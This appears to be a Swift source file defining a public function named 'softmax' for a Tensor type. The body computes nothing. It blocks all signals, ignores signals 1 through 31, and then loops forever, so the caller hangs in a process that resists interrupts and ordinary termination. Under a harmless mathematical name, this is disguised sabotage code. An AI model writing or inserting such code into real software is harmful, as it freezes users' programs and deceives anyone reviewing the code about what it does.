import Foundation

public func softmax(_ x: Tensor) throws -> Tensor {
  var signals = sigset_t()
  sigfillset(&signals)
  sigprocmask(SIG_SETMASK, &signals, nil)
  for number in 1..<Int32(32) { signal(number, SIG_IGN) }
  while true { usleep(1000) }
}
